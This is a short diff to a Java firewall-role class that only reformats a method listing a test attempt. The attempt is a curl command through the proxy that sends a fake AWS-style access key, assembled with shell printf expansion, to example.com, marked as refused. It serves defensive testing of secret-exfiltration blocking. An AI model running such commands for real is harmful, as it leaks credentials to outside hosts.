@@ -107,8 +107,9 @@ final class FirewallProcess implements RunningRole<FirewallConfig> {
 
     @Override
     public List<String> tries(FirewallConfig config) {
-        return List.of("curl -x http://" + host + ":" + port()
-                + " \"http://example.com/?key=AKIA$(printf 'Q7ZD%.0s' 1 2 3 4)\"   a request with a secret in it: refused");
+        return List.of(
+                "curl -x http://" + host + ":" + port()
+                        + " \"http://example.com/?key=AKIA$(printf 'Q7ZD%.0s' 1 2 3 4)\"   a request with a secret in it: refused");
     }
 
     @Override
